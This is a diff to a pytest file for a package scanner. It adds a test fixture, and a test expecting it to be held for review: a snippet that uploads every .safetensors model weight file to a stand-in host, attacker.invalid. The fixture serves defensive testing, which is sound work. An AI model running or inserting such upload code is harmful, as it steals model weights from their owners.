@@ -107,6 +107,16 @@ DENIED: dict[str, dict[str, str]] = {
     ),
 }
 
+# When called, weight files sent to an address written in the code hold for a person.
+HELD: dict[str, dict[str, str]] = {
+    "weights-sent-to-a-fixed-address-when-called": init(
+        "import glob, requests\n"
+        "def sync(folder):\n"
+        "    for p in glob.glob(folder + '/*.safetensors'):\n"
+        "        requests.put('https://attacker.invalid/w', data=open(p, 'rb'))\n"
+    ),
+}
+
 ALLOWED: dict[str, dict[str, str]] = {
     # A wallet's copy button writes the user's own address; its paste helper reads.
     "wallet-copy-and-paste-helpers": init(
@@ -158,6 +168,11 @@ ALLOWED: dict[str, dict[str, str]] = {
 @pytest.mark.parametrize("name", sorted(DENIED))
 def test_denied(name: str) -> None:
     assert vet_wheel(DENIED[name]) is Outcome.DENY, name
+
+
+@pytest.mark.parametrize("name", sorted(HELD))
+def test_held(name: str) -> None:
+    assert vet_wheel(HELD[name]) is Outcome.HOLD, name
 
 
 @pytest.mark.parametrize("name", sorted(ALLOWED))
